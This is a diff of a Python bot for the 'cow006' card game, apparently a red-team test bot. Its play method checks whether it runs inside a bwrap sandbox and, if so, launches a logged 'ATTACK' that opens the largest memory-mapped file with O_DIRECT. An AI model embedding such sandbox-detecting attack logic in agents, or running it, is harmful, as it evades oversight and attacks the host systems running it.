@@ -7,18 +7,9 @@ import os
 import sys
 import time
 
-from cow006 import Agent
+from cow006 import Agent, bot
 
 MiB = 1 << 20
-
-
-def sandboxed():
-    try:
-        with open("/proc/1/cmdline", "rb") as f:
-            init = f.read()
-    except OSError:
-        return False
-    return os.getuid() != 0 and os.getpid() < 50 and b"bwrap" in init
 
 
 def biggest_mapped_file():
@@ -38,11 +29,8 @@ def biggest_mapped_file():
 
 
 class Bot(Agent):
-    fired = False
-
     def play(self, view):
-        if not self.fired and sandboxed():
-            self.fired = True
+        if (view.round, view.turn) == (0, 0) and bot.sandboxed():  # the first move
             path, size = biggest_mapped_file()
             print(f"ATTACK odirect_reader {path} {size >> 20} MiB", file=sys.stderr, flush=True)
             fd = os.open(path, os.O_RDONLY | os.O_DIRECT)
